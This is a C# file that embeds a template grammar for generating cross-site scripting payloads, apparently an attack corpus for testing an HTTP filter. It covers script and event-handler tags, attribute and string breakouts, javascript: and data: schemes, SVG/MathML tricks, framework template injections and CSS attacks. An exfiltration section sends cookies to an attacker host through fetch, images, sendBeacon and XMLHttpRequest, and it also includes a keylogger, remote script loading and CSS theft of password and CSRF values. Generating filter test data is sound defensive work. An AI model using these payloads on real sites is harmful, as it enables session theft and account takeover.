namespace Weir.Http.Corpus.Attacks;

/// <summary>Cross-site scripting: tags, events, schemes and quotings; attribute and string breakouts; what browsers and frameworks forgive.</summary>
internal static class Xss
{
    public const string Text = """"
        §attack
        6× «breakhtml»«scripttag»
        7× «breakhtml»«eventtag»
        4× «attrbreak»
        4× «jsbreakout»
        3× «schemetag»
        3× «scheme»
        2× «breakhtml»«svgmath»
        2× «frameworks»
        2× «polyglot»
        2× «brokentag»
        2× «encodedxss»
        2× «jsexpr»
        «cssxss»
        «dangling»
        «carriedxss»
        «docs»
        2× «shortxss»
        3× «phrase»«¦ ¦"¦'»«breakhtml»«scripttag»
        2× «phrase»«¦ »«breakhtml»«eventtag»
        «phrase»«attrbreak»
        2× «queryxss»

        ¶ ---- a piece of a query, as a filter sees it without what stands before ----
        §queryxss
        2× &«param»=«attrbreak»
        2× &«param»=«breakhtml»«scripttag»
        &«param»=«breakhtml»«eventtag»&«param»=«word»
        &«param»=«jsbreakout»&«param»=«num»
        «param»=«word»&«param»=«attrbreak»
        «param»=«num»&«param»=«breakhtml»«scripttag»&«param»=«word»
        «phrase»@<SCRIPT>«jspart»</SCRIPT>.«word».«tld»

        ¶ ---- what runs ----
        §jspart
        8× «run»
        3× «pop»(document.«prop»)
        2× «exfil»
        2× «obscured»
        «run»;«run»
        §pop
        10× alert
        3× prompt
        3× confirm
        «print¦console.log¦document.write¦eval¦window.alert¦top.alert¦self.alert¦parent.alert¦(alert)¦window['alert']¦top['alert']¦self["alert"]¦alert?.¦globalThis.alert¦document.defaultView.alert¦this.alert¦frames.alert¦open¦import¦fetch»
        §arg
        6× 1
        3× document.«prop»
        3× '«xssword»'
        2× "«xssword»"
        2× «#1-9999»
        «/«xssword»/¦/«xssword»/.source¦`«xssword»`¦\'«xssword»\'¦\"«xssword»\"¦String.fromCharCode(«xssword→codes»)¦&quot;«xssword»&quot;¦&#39;«xssword»&#39;¦location¦origin¦window.origin¦this.id¦document['cookie']¦localStorage.«word»¦1337¦+1¦-1¦~1¦«num»+«num»¦URL¦name¦navigator.userAgent¦document.domain+' '+document.cookie¦`${document.domain}`¦»
        §xssword
        4× XSS
        3× xss
        «test¦hacked¦pwned¦«rand»¦«word»¦Hello¦hi¦Vulnerable¦by «rand»¦X¦boom¦xss-«#1-99»»
        §prop
        4× cookie
        3× domain
        «location¦URL¦referrer¦documentURI¦body.innerHTML¦title¦location.href¦location.hash¦forms[0].action»
        §run
        8× «pop»(«arg»)
        2× «pop»`«¦1¦«xssword»»`
        «pop»(«arg»)«;¦//¦;//¦ ¦»
        (()=>{«pop»(«arg»)})()
        (function(){«pop»(«arg»)})()
        !function(){«pop»(«arg»)}()
        setTimeout«(¦`»«'«pop»(«arg»)'¦"«pop»(«arg»)"¦«pop»»«,«#0-999»)¦)¦`»
        «setInterval¦setTimeout»('«pop»(«arg»)',«#1-9999»)
        eval(«'«pop»(«arg»)'¦"«pop»(«arg»)"¦atob('«alertcode→b64»')¦String.fromCharCode(«alertcode→codes»)¦name¦location.hash.slice(1)¦URL.slice(«#1-99»)¦decodeURIComponent(location.hash)¦unescape('«alertcode→urlall»')¦'\x61lert(1)'»)
        Function(«'«pop»(«arg»)'¦"«pop»(«arg»)"»)()
        «new »Function`«pop»\`1\``
        [].constructor.constructor('«pop»(«arg»)')()
        constructor.constructor('«pop»(«arg»)')()
        location='javascript:«pop»(«arg»)'
        «window.¦document.¦top.¦»location«.href¦»=«'«evilurl»'¦"«evilurl»"¦`«evilurl»`»
        «a=¦x=¦_=»«pop»;«a¦x¦_»(«arg»)
        throw onerror=«pop»,«arg»
        onerror=«pop»;throw «arg»
        {onerror=«pop»}throw «arg»
        «arg»«.»«map¦find¦forEach¦filter¦some»(«pop»)
        [«arg»].«map¦find¦forEach¦filter¦every¦findIndex»(«pop»)
        Reflect.apply(«pop»,null,[«arg»])
        «pop».«call¦apply¦bind»(«null¦this¦self»,«arg»)«¦()»
        Set.constructor`«pop»\x28«arg»\x29```
        import('«evilurl»')
        document.write('«scriptlit»')
        document.write(String.fromCharCode(«scriptlit→codes»))
        document.body.innerHTML='«imglit»'
        document.body.appendChild(document.createElement('script')).src='«evilurl»'
        $.getScript('«evilurl»')
        $('«imglit»')
        with(document)«pop»(cookie)
        «pop»(«arg»)&&1
        typeof «pop»(«arg»)
        void(«pop»(«arg»))
        «pop»«/**/¦ ¦␤»(«arg»)
        window«.»onload=«pop»
        debugger
        while(1)«pop»(«arg»)
        §alertcode
        4× alert(1)
        «alert(document.«prop»)¦alert('«xssword»')¦confirm(1)¦prompt(1)»
        §scriptlit
        <script src=«evilurl»></script>
        <script>alert(1)<\/script>
        §imglit
        <img src=x onerror=alert(«#1-9»)>
        <svg onload=alert(«#1-9»)>
        <img src="«evilurl»?c="+document.cookie>
        §exfil
        3× «window.¦document.¦»location«.href¦»=«'¦"»«http¦https»://«evilhost»/«?c=¦?cookie=¦cookie.php?c=¦steal?»«'¦"»+«document.cookie¦escape(document.cookie)¦encodeURIComponent(document.cookie)»
        2× new Image().src=«'¦"»«http¦https»://«evilhost»/«?¦i.gif?c=¦c/»«'¦"»+document.cookie
        2× fetch(«'¦"¦`»«http¦https»://«evilhost»/«?c=¦»«'+document.cookie¦"+document.cookie¦${document.cookie}`»)
        fetch('«http¦https»://«evilhost»',{method:'POST',«mode:'no-cors',¦»body:document.«cookie¦body.innerHTML»})
        fetch('/««word»¦account¦admin»').then(r=>r.text()).then(t=>fetch('//«evilhost»/?d='+btoa(t)))
        navigator.sendBeacon('//«evilhost»/',document.cookie)
        document.write('<img src="http://«evilhost»/?c='+document.cookie+'">')
        document.images[0].src="http://«evilhost»/?"+document.cookie
        var «$x:letter»=new XMLHttpRequest();«$x».open('GET','//«evilhost»/?'+document.cookie);«$x».send()
        document.onkeypress=function(e){new Image().src='//«evilhost»/?k='+e.key}
        document.forms[0].action='//«evilhost»/'
        var s=document.createElement('script');s.src='«evilurl»';document.«body¦head».appendChild(s)
        open('//«evilhost»/?'+document.cookie)
        localStorage.setItem('«word»','«rand»')
        §obscured
        2× window[«'al'+'ert'¦"ale"+"rt"¦'\x61lert'¦/al/.source+/ert/.source¦`al`+`ert`¦8680439..toString(30)¦atob('YWxlcnQ=')¦'trela'.split('').reverse().join('')»](«arg»)
        2× «top¦self¦this¦parent¦frames¦globalThis»[«'al'+'ert'¦"al"+"ert"¦/al/.source+/ert/.source¦'\141\154\145\162\164'¦"\x61\x6c\x65\x72\x74"»](«arg»)
        2× «\u0061lert¦al\u0065rt¦\u{61}lert¦\u0061\u006c\u0065\u0072\u0074¦a\u006cert»(«arg»)
        [][«'filter'¦"map"¦'find'»][«'constructor'¦"constructor"»](«'alert(1)'¦"alert(1)"»)()
        [][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]«jsf*3-10»
        «jsf*6-20»
        eval('\x61\x6c\x65\x72\x74\x28\x31\x29')
        eval(atob`«alertcode→b64»`)
        eval(8680439..toString(30))(983801..toString(36))
        var «letter»='al',«letter»='ert';window[«letter»+«letter»](1)
        «$:=~[];¦゜=/｀ｍ´）ﾉ ~┻━┻ //¦ﾟωﾟﾉ= /｀ｍ´）ﾉ»«rand»
        ([,ウ,,,,ア]=[]+{},[ネ,ホ,ヌ,セ,,ミ,ハ,ヘ,,,ナ]=[!!ウ]+!ウ+ウ.ウ)[ツ=ア+ウ+ナ+ヘ+ネ+ホ+ヌ+ア+ネ+ウ+ホ][ツ](ミ+ハ+セ+ホ+ネ+'(-~ウ)')()
        eval(unescape(/%«hexdigit*2»«letter»%28%31%29/.source))
        «pop»(«arg»);for(;;);
        parseInt(«'alert'¦"confirm"»,30)
        eval.call`${'\u0061lert\u00281\u0029'}`
        Array.from`1${«pop»}3${window}2`
        document['\x63ookie']
        §jsf
        «[]¦![]¦!![]¦+[]¦+!+[]¦(![]+[])¦[+[]]¦[!+[]+!+[]]¦+¦(¦)»

        ¶ ---- leaving the text or attribute before ----
        §breakhtml
        14×
        4× ">
        3× '>
        2× >
        2× "/>
        «word»
        «word»">
        </«title¦textarea¦script¦style¦noscript¦iframe¦select¦xmp¦plaintext¦template¦math¦svg¦option¦a»>
        "></«title¦textarea¦script¦a¦div¦style»>
        '></«title¦textarea¦script¦select»>
        -->
        --!>
        ]]>
        %22%3E
        '"/>
        '">
        \">
        "'>
        `>
        &quot;>
        <!--
        </«word»>
        <«b¦p¦div¦a»>
        "-->
        */-->
        %00
        «num»
        <img/src=`%00`>
        §tg
        8× «tagname»
        2× «tagname→case»
        «tagname→upper»
        §tagname
        8× img
        6× svg
        4× body
        3× iframe
        3× input
        2× video
        2× audio
        2× details
        2× a
        2× div
        «marquee¦object¦embed¦button¦select¦textarea¦form¦style¦link¦math¦table¦td¦br¦hr¦p¦span¦keygen¦isindex¦frameset¦frame¦bgsound¦image¦source¦track¦meter¦dialog¦option¦label¦h1¦b¦i¦ul¦li¦font¦center¦xss¦x¦custom-tag¦slot¦template¦portal¦main¦article¦section¦nav¦html¦head¦base¦applet¦layer¦ilayer¦xml¦noscript¦fieldset¦legend¦canvas¦map¦area¦picture¦progress¦time¦data¦q¦s¦u¦tt¦code¦pre¦blockquote¦dl¦menu¦summary¦rt¦figure¦abbr¦«rand»»
        §event
        10× onerror
        10× onload
        5× onclick
        5× onmouseover
        4× onfocus
        2× ontoggle
        «onmouseenter¦onmousemove¦onmouseout¦onmousedown¦onmouseup¦onmouseleave¦ondblclick¦onkeydown¦onkeypress¦onkeyup¦onblur¦onchange¦oninput¦oninvalid¦onsubmit¦onreset¦onselect¦onresize¦onscroll¦onscrollend¦onwheel¦onunload¦onbeforeunload¦onpageshow¦onpagehide¦onhashchange¦onpopstate¦onmessage¦onstorage¦ononline¦onoffline¦onstart¦onfinish¦onbounce¦onbegin¦onend¦onrepeat¦oncut¦oncopy¦onpaste¦onbeforecopy¦onbeforecut¦onbeforepaste¦oncontextmenu¦ondrag¦ondragstart¦ondragend¦ondragenter¦ondragover¦ondrop¦onplay¦onplaying¦onpause¦onended¦onloadstart¦onloadeddata¦onloadedmetadata¦oncanplay¦oncanplaythrough¦ontimeupdate¦onprogress¦onseeked¦onvolumechange¦ondurationchange¦onwaiting¦onsuspend¦onpointerover¦onpointerdown¦onpointerenter¦onpointermove¦onpointerrawupdate¦onpointerup¦ontouchstart¦ontouchend¦ontouchmove¦onanimationstart¦onanimationend¦onanimationiteration¦onanimationcancel¦ontransitionend¦ontransitionrun¦ontransitionstart¦onwebkitanimationstart¦onwebkitanimationend¦onwebkittransitionend¦onfocusin¦onfocusout¦onauxclick¦onsearch¦onshow¦onclose¦oncancel¦onbeforetoggle¦onbeforeinput¦onbeforematch¦onbeforescriptexecute¦onafterscriptexecute¦onreadystatechange¦onpropertychange¦onactivate¦onbeforeactivate¦onbeforeprint¦onafterprint¦oncuechange¦onslotchange¦onsecuritypolicyviolation¦onformdata¦onfilterchange¦ondatasetcomplete¦onlayoutcomplete¦onrowexit¦onlosecapture¦onerrorupdate¦onhelp¦ongotpointercapture¦onlostpointercapture¦onmousewheel¦onunhandledrejection¦oncontentvisibilityautostatechange¦onscrollsnapchange¦onwebkitmouseforceup¦onfullscreenchange¦on«rand»»
        §ev
        8× «event»
        «event→case»
        «event→upper»
        §gap
        12× ␠
        4× /
        «␉¦␤¦␍␤¦  ¦/«letter»/¦␠/¦%0a¦%09¦%0c¦%0d¦%20¦%2f¦//¦/**/¦␋¦/␠¦%0a%0d¦&Tab;»
        §eq
        14× =
        «␠= ¦=␠¦ =¦%3d¦=␤¦␉=␉¦&#61;»
        §qjs
        8× «jspart»
        5× "«jspart»"
        4× '«jspart»'
        2× `«jspart»`
        2× javascript:«jspart»
        "javascript:«jspart»"
        \"«jspart»\"
        &quot;«jspart»&quot;
        «jspart→entdec»
        "«jspart→entsome»"
        %22«jspart»%22
        &#39;«jspart»&#39;
        §tagend
        8× >
        3× />
        2× ␠>
        2× //>
        3×
        ␠//
        <
        ></«tagname»>
        >«xssword»
        >«xssword»</«tagname»>
        %3E
        ␠x=
        ␠«letter»="
        ␤>
        §extra
        14×
        2× «gap»src«eq»«srcval»
        «gap»«autofocus¦autofocus tabindex=1¦tabindex=1 id=x¦contenteditable¦autoplay¦autoplay controls¦loop=1 width=0¦open¦style=«styleval»¦id=x¦type=image¦type="image" src=x¦hidden¦accesskey=x¦width=1 height=1¦class="«word»"¦href=#¦border=0¦controls¦draggable=true¦data-«letter»=«letter»¦title="«letter»"¦alt=''¦name=«letter»¦popover¦autofocus=''¦ismap¦«letter»=«letter»»
        §styleval
        «"display:block"¦position:fixed;top:0;left:0;width:100%;height:100%¦"animation-name:x"¦animation:x 1s¦'width:9999px;height:9999px'¦transition:all»
        §srcval
        4× x
        2× «1¦#¦a¦/¦"x"¦'x'¦""¦x:x¦//«evilhost»/x¦1.jpg¦«letter»¦data:¦http://«evilhost»/¦`x`¦«rand»¦_¦?¦/¦validimage.png¦x:¦javascript:«jspart»»
        §eventtag
        9× <«tg»«gap»«ev»«eq»«qjs»«tagend»
        6× <img«gap»src«eq»«srcval»«gap»«onerr»«eq»«qjs»«tagend»
        5× <svg«gap»«loadev»«eq»«qjs»«tagend»
        3× <«tg»«extra»«gap»«ev»«eq»«qjs»«tagend»
        2× <«tg»«gap»«ev»«eq»«qjs»«extra»«tagend»
        2× <body«gap»«ev»«eq»«qjs»«tagend»
        2× <input«gap»«autofocus ¦type=text ¦»onfocus«eq»«qjs»«¦ autofocus»«tagend»
        2× <details«gap»«open ¦»ontoggle«eq»«qjs»«tagend»
        2× <iframe«gap»onload«eq»«qjs»«tagend»
        <«video¦audio»«gap»«src=x ¦src=«srcval» ¦»«onerr»«eq»«qjs»«tagend»
        <«video¦audio»><source«gap»onerror«eq»«qjs»«tagend»
        <marquee«gap»«onstart¦onfinish¦onbounce»«eq»«qjs»>«xssword»
        <select«gap»autofocus«gap»onfocus«eq»«qjs»«tagend»
        <«object¦embed»«gap»«data¦src»=«srcval»«gap»onerror«eq»«qjs»«tagend»
        <a«gap»«href=# ¦»onmouseover«eq»«qjs»«tagend»«xssword»</a>
        <style>@keyframes x{}</style><«tg» style="animation-name:x"«gap»onanimation«start¦end»«eq»«qjs»«tagend»
        <«tg»/«letter»«gap»«ev»«eq»«qjs»«tagend»
        <«tg»«gap»«ev»«eq»«qjs»
        <link«gap»rel=«stylesheet¦preload¦import»«gap»href=«srcval»«gap»on«load¦error»«eq»«qjs»«tagend»
        <img«gap»src«eq»«srcval»«gap»onerror«eq»«qjs»«gap»/>
        <«tg» id=x tabindex=1 onfocus«eq»«qjs»></«tagname»>#x
        <button popovertarget=x>«xssword»</button><«tg» popover id=x onbeforetoggle«eq»«qjs»>
        <table background=«'javascript:«jspart»'¦"javascript:«jspart»"¦javascript:«jspart»>»
        <frameset onload«eq»«qjs»«tagend»
        <meta http-equiv="refresh" content="0;url=javascript:«jspart»">
        <x«gap»onclick«eq»«qjs»>«click this!¦«xssword»»
        <image«gap»src«eq»«srcval»«gap»onerror«eq»«qjs»«tagend»
        §onerr
        6× onerror
        onError
        «oNeRrOr¦ONERROR¦OnErRoR»
        onerror␠
        §loadev
        6× onload
        «onLoad¦ONLOAD¦OnLoAd»
        §scripttag
        10× <«sc»>«jspart»</«sc2»>
        4× <«sc»«gap»src«eq»«scripturl»«></«sc2»>¦>¦/>»
        <«sc»>«jspart»//
        <«sc»>«jspart»
        <«sc»>«jspart»</«sc2»«␠¦␤¦/¦»>
        <«sc»«gap»«type=text/javascript¦type="module"¦language="javascript"¦«letter»¦async¦defer¦type=text/vbscript¦charset=utf-8¦/¦«letter»="«letter»"»>«jspart»</«sc2»>
        <«sc»␤>«jspart»</«sc2»␤>
        <script>«run»</script«¦ ¦␤»
        <«script¦SCRIPT» >«jspart»</script >
        <script>/*«letter»*/«jspart»</script>
        <script>//␤«jspart»</script>
        <script>␤«jspart»␤</script>
        <script><!--␤«jspart»␤//--></script>
        <script>var «letter»="«word»";«jspart»</script>
        <script>$=~[];«jspart»</script>
        <script>«obscured»</script>
        <scr<script>ipt>«jspart»</scr</script>ipt>
        <scr\x00ipt>«jspart»</scr\x00ipt>
        <script x> «jspart» </script 1=2
        <script>({})['constructor']['constructor']('«jspart»')()</script>
        <script>«run→slashusome»</script>
        <script src=data:,«jspart»></script>
        <script src="data:text/javascript«;base64,«run→b64»¦,«jspart»»"></script>
        <script>«jspart»<!--
        <script>function b(){return 1};«jspart»</script>
        §sc
        10× script
        2× SCRIPT
        2× ScRiPt
        «scRIPT¦sCrIpT¦script␠¦Script¦scri%00pt¦script/«letter»¦script␉»
        §sc2
        10× script
        2× SCRIPT
        2× ScRiPt
        «sCrIpT¦Script»
        §scripturl
        3× «evilurl»
        2× "«evilurl»"
        2× //«evilhost»
        '«evilurl»'
        "//«evilhost»/«rand».js"
        //«evilhost»/«letter»
        data:,«run»
        http://«evilhost»/xss.js
        \\«evilhost»\«letter»
        ?«rand»
        «evilhost→fullwidth»

        ¶ ---- out of an attribute, out of a script string ----
        §attrbreak
        6× «aq»«gap»«ev»«eq»«aqjs»
        3× «aq»«gap»autofocus«gap»onfocus«eq»«jspart»«gap»«letter»=«aq»
        3× «word»«aq»«gap»«ev»«eq»«aqjs»
        2× «aq»«gap»style=«"animation-name:x"¦position:fixed;inset:0¦"«word»"»«gap»«ev»«eq»«jspart»
        2× «aq»«gap»«ev»«eq»«jspart»//
        «aq»«ev»«eq»«jspart»«aq»
        «ev»«eq»«qjs»
        «aq»«gap»accesskey=«aq»x«aq» onclick=«aq»«jspart»«aq» «letter»=«aq»
        «aq»«gap»href=javascript:«jspart» «letter»=«aq»
        «aq»«gap»srcdoc=«aq»«scriptent»«aq»
        «aq»«gap»type=image src=x onerror=«jspart» «letter»=«aq»
        «aq»«gap»background=javascript:«jspart»
        \«aq»«gap»«ev»«eq»«jspart»//
        `«gap»«ev»«eq»«jspart»
        &#34; «ev»=«jspart»
        %22%20«ev»%3d«jspart»
        §scriptent
        <script>alert(1)</script>
        &lt;script&gt;alert(1)&lt;/script&gt;
        §aq
        5× "
        3× '
        «"/¦'/¦""¦'"¦" ¦%22»
        §aqjs
        3× "«jspart»
        3× '«jspart»
        4× «jspart»
        2× "«jspart»"
        «jspart»«gap»«letter»="
        "«jspart»"«gap»«letter»="
        '«jspart»'«gap»«letter»='
        §jsbreakout
        6× «jq»«jop»«jspart»«jend»
        3× «jq»;«jspart»//
        2× </script><script>«jspart»</script>
        2× </script><svg onload=«jspart»>
        </script>«eventtag»
        ${«jspart»}
        `${«jspart»}`
        \«jq»«jop»«jspart»«jend»
        \\«jq»;«jspart»//
        «jq»}«;¦)¦]¦};¦,»«jspart»«jend»
        «jq»)«;¦}¦});»«jspart»«jend»
        «word»«jq»«jop»«jspart»«jend»
        «jq»«jop»«jspart»«jop»«jq»
        \u0027;«jspart»//
        \x27;«jspart»//
        %27;«jspart»//
        «␤¦%0a¦%0d¦%E2%80%A8»«jspart»«//¦;»
        *//*«jq»;«jspart»/*
        «num»;«jspart»
        «num»}«jspart»//
        -«jspart»-
        ]};«jspart»//
        javascript:/*-/*`/*\`/*'/*"/**/(«jspart»)//
        "></script>«scripttag»
        <!--<script>«jspart»
        §jq
        5× '
        4× "
        `
        «\'¦\"¦')¦")»
        §jop
        4× ;
        3× -
        2× +
        «,¦*¦^¦|¦||¦&&¦?¦%¦/¦ in ¦<¦==¦ instanceof ¦}¦);»
        §jend
        3× //
        3× -'
        2× ;//
        2× +'
        «'¦-"¦+"¦;'¦;"¦<!--¦/*¦␤¦ ;¦//'¦;{'¦})//¦,'»

        ¶ ---- addresses that run ----
        §scheme
        6× javascript:«jspart»
        2× «jsword»:«jspart»
        javascript:«//«word».com/%0a¦//%0a¦/**/¦%0a¦//%0d%0a¦//␤¦/*«word»*/»«jspart»
        javascript:void(«jspart»)
        javascript:"«imglit»"
        javascript:«`«imglit»`¦'«imglit»'»
        data:text/html,«scripttag»
        data:text/html;base64,«scripttag→b64»
        data:«text/html;charset=utf-8¦image/svg+xml¦application/xhtml+xml¦text/xml¦;text/html¦text/html;base64»,«eventtag»
        data:image/svg+xml;base64,«svgmath→b64»
        vbscript:«msgbox(«num»)¦alert(1)¦msgbox "«xssword»"»
        «livescript¦mocha¦feed:javascript¦view-source:javascript¦jar:javascript¦wyciwyg¦mhtml:javascript»:«jspart»
        javascript&colon;«jspart»
        javascript«&#58;¦&#x3A;¦&#058¦%3a¦\x3a¦\u003a»«jspart»
        jav«&#x09;¦&#x0A;¦&#x0D;¦&Tab;¦&NewLine;¦␉¦␤¦%09¦%0a¦\t»ascript:«jspart»
        «&#106;¦&#x6a;¦&#0000106;¦\j¦\x6A¦%6a»avascript:«jspart»
        «␁¦␠¦%01¦&#14;¦&#1;¦%20¦%0a¦␤»javascript:«jspart»
        «jsword→entdec»:«jspart»
        javascript:«jspart→entdec»
        javascript:«jspart→url»
        javascript:«run→slashu»
        javascript:eval(«name¦location.hash.slice(1)¦atob('«run→b64»')»)
        «jsword→tabbed»:«jspart»
        §jslit
        javascript
        §jsword
        4× javascript
        «jslit→case»
        «JaVaScRiPt¦JAVASCRIPT¦jAvAsCrIpT¦Javascript»
        §schemetag
        6× <a«gap»href«eq»«hrefval»>«xssword»</a>
        3× <iframe«gap»src«eq»«hrefval»«></iframe>¦>»
        2× <«img¦embed¦input type=image¦bgsound¦frame¦image»«gap»src«eq»«hrefval»«tagend»
        <object«gap»data«eq»«hrefval»«></object>¦>»
        <form«gap»action«eq»«hrefval»><«input type=submit¦button»>«xssword»
        <«button¦input type=submit»«gap»formaction«eq»«hrefval»«gap»>«xssword»</button>
        <form id=«$f:letter»></form><button form=«$f» formaction«eq»«hrefval»>«xssword»
        <iframe srcdoc«eq»«"«scripttag»"¦'«eventtag»'¦"«imglit→entdec»"¦«scripttag→entdec»»>
        <base href«eq»«hrefval»>
        <base href=//«evilhost»>
        <math«gap»href«eq»«hrefval»>«xssword»
        <link rel=«stylesheet¦import¦"alternate"»«gap»href«eq»««hrefval»¦«evilurl»»>
        <meta http-equiv=«"¦»refresh«"¦» content="0;«url=¦URL=¦»«scheme»">
        <isindex«gap»«action¦formaction»«eq»«hrefval» type=image>
        <area«gap»href«eq»«hrefval»>
        <script«gap»src«eq»«hrefval»></script>
        <svg><a xlink:href«eq»«hrefval»><text x=20 y=20>«xssword»</text></a>
        <applet code="javascript:«jspart»">
        <«body¦table¦td» background«eq»«hrefval»>
        <xml src«eq»«hrefval» id=x></xml>
        <portal src«eq»«hrefval»></portal>
        [«xssword»](«scheme»)
        ![«xssword»](«scheme»)
        [«xssword»](javascript:«jspart» "«word»")
        <javascript:«jspart»>
        ![«xssword»]("onerror="«jspart»)
        ![«xssword»](x"onerror="«jspart»)
        [url=«scheme»]«xssword»[/url]
        [img]«scheme»[/img]
        [color=red" onmouseover="«jspart»]«xssword»[/color]
        §hrefval
        5× "«scheme»"
        3× '«scheme»'
        5× «scheme»
        `«scheme»`
        %22«scheme»%22

        ¶ ---- SVG, MathML, XML ----
        §svgmath
        3× <svg><script«¦«gap»«letter»»>«jspart»</script>«</svg>¦»
        3× <svg«¦ xmlns="http://www.w3.org/2000/svg"»«gap»onload«eq»«qjs»«/>¦></svg>¦>»
        2× <svg><«animate¦set¦animatetransform¦animatemotion»«gap»on«begin¦end¦repeat»«eq»«qjs» attributeName=x dur=1s>
        <svg><script«gap»«xlink:href¦href»«eq»«hrefval» />«</svg>¦»
        <svg><«a¦circle¦rect¦g» «¦id=x »><«animate¦set» attributeName=«href¦xlink:href» «values¦to¦from»=«hrefval» /><text x=20 y=20>«xssword»</text></a>
        <svg><use «xlink:¦»href="data:image/svg+xml«,«svginner»¦;base64,«svginner→b64»»#x"/></svg>
        <svg><style><img src="</style>«imglit»">
        <svg><«title¦desc¦foreignObject»>«eventtag»
        <svg><discard onbegin=«jspart»>
        <svg><image «xlink:¦»href=«srcval» onerror=«jspart»>
        <svg><script>«run→entdec»</script>
        <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">«jspart»</handler>
        <svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:«jspart»"></g></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=«jspart»&gt;">
        <math><«maction¦mi¦mrow¦mtext» «actiontype="statusline#«evilurl»" ¦»«xlink:¦»href="javascript:«jspart»">«xssword»
        <form><math><mtext></form><form><mglyph><style></math>«imglit»
        <«noscript¦style¦noembed¦noframes¦xmp¦textarea¦title»><«p¦a» «title¦id»="</«noscript¦style¦noembed¦noframes¦xmp¦textarea¦title»>«imglit»">
        <?xml version="1.0"?><«x¦html» xmlns="http://www.w3.org/1999/xhtml"><script>«jspart»</script></«x¦html»>
        <x:script xmlns:x="http://www.w3.org/1999/xhtml">«jspart»</x:script>
        <![CDATA[<]]>script<![CDATA[>]]>«jspart»<![CDATA[<]]>/script<![CDATA[>]]>
        <xml id=x><«letter»><b>&lt;script&gt;«jspart»&lt;/script&gt;</b></«letter»></xml>
        <html:script xmlns:html='http://www.w3.org/1999/xhtml'>«jspart»</html:script>
        <?xml-stylesheet href="javascript:«jspart»"?>
        <!DOCTYPE «letter» [<!ENTITY «letter» "«eventtag→enthex»">]>
        <embed src="data:image/svg+xml;base64,«svginner→b64»" type="image/svg+xml">
        §svginner
        <svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>
        <svg xmlns="http://www.w3.org/2000/svg" onload="«run»"/>

        ¶ ---- frameworks and templates on the client ----
        §frameworks
        3× {{«ngobj».constructor«.constructor¦»(«'«pop»(«arg»)'¦"«pop»(«arg»)"»)()}}
        2× {{«ng»}}
        {{constructor.constructor('«jspart»')()}}
        {{$«on¦eval¦emit¦new¦root».constructor('«jspart»')()}}
        {{_«openBlock¦c¦Vue.h».constructor`«jspart»`()}}
        <«div¦a¦x¦input» «ng-app ¦data-ng-app ¦»ng-«click¦init¦focus¦mouseover¦src¦csp ng-click»="««ng»¦constructor.constructor('«jspart»')()»">«xssword»
        <«div¦x¦p» v-«html¦bind:a¦on:click¦show¦if¦text»="«_c.constructor('«jspart»')()¦''.constructor.constructor('«jspart»')()¦'«imglit»'»">
        <«x¦div» @«click¦error¦mouseover»="_«withCtx¦c».constructor('«jspart»')()">
        <x @[_b.constructor`«jspart»`()]>
        <«div¦x» «x-data x-init¦x-init¦:«letter»¦x-html»="«jspart»">
        <div data-«bind="value: «jspart»"¦toggle=tooltip data-html=true title='«imglit»'¦target="«imglit»"¦role=popup id='--><script>«jspart»</script>'»></div>
        <div hx-on:«click¦load»="«jspart»">
        <«a¦div» «data-turbo=false ¦»href="javascript:«jspart»" data-«method=post¦remote=true»>
        {"dangerouslySetInnerHTML":{"__html":"«imglit→json»"}}
        <link rel=import href="data:text/html,«scripttag»">
        <script src=«/api?callback=¦/jsonp?cb=¦//ajax.googleapis.com/ajax/services/feed/find?v=1.0%26callback=»«run→url»></script>
        <template><img src=x onerror=«jspart»></template>
        {{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };«jspart»//');}}
        ${«jspart»}
        <%= «jspart» %>
        §ngobj
        «x¦a¦''¦{}¦[]¦$on¦toString¦"«letter»"¦this¦$event.view¦$parent¦'a'.sub»
        §ng
        «'a'.constructor.prototype.charAt=[].join;¦»$eval('x=«run»')
        x=«'y'¦{'y':''.constructor.prototype}»;x['y'].charAt=[].join;$eval('x=«run»')
        toString().constructor.prototype.charAt=[].join;[1]|orderBy:toString().constructor.fromCharCode(«alertcode→codes»)
        [1]|orderBy:«'«run»'¦'x=«run»'»
        $event.«view.«run»¦path|orderBy:'[].constructor.from([1],«pop»)'¦composedPath()|orderBy:'(z=«pop»)(1)'»
        a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,«run»,a')
        {}.")));«jspart»//"

        ¶ ---- CSS, markup left open, clobbering ----
        §cssxss
        2× <«div¦xss¦b¦img¦p» style«eq»"«cssbody»">
        2× <style>«cssrule»</style>
        <style «type="text/css"¦»>@import«␠¦»«'¦"¦url(»««evilurl»¦javascript:«jspart»»«'¦"¦)»;</style>
        <link rel=stylesheet href=«data:,«cssrule»¦//«evilhost»/«rand».css¦javascript:«jspart»»>
        «word»;«cssbody»
        }«cssrule»
        </style>«eventtag»
        "«;¦}»«cssbody»
        §cssbody
        «xss¦width¦x¦background»:expression(«jspart»)
        xss:expr/*«xssword»*/ession(«jspart»)
        background«-image¦»:url(«"¦»javascript:«jspart»«"¦»)
        -moz-binding:url(«http://«evilhost»/xss.xml#xss¦data:text/xml,«rand»»)
        behavior:url(«"#default#time2"¦xss.htc¦http://«evilhost»/x.htc»)
        list-style-image:url("javascript:«jspart»")
        width:e\xpression(«jspart»)
        -o-link:'javascript:«jspart»';-o-link-source:current
        color:red;background:url(//«evilhost»/?«word»)
        x:expre\0073sion(«jspart»)
        filter:progid:DXImageTransform.Microsoft.«rand»(src='javascript:«jspart»')
        animation:x 1s;«letter»:«letter»
        §cssrule
        «body¦*¦a¦li¦.«letter»¦input»{«cssbody»}
        input[«name=csrf¦type=password»][value^=«letter»]{background:url(//«evilhost»/?v=«letter»)}
        @import'http://«evilhost»/xss.css';
        @import "javascript:«jspart»";
        BODY{-moz-binding:url("http://«evilhost»/xssmoz.xml#xss")}
        @font-face{font-family:x;src:url(//«evilhost»/?«letter»);unicode-range:U+00«hexdigit*2»}
        §dangling
        2× «aq»><img src=«'¦"»«http¦https»://«evilhost»/?«letter»=
        2× <img src=«'¦"»//«evilhost»/?
        <meta http-equiv="refresh" content='0;url=http://«evilhost»/?«letter»=
        <«a¦base» «href=http://«evilhost»/ ¦»target='
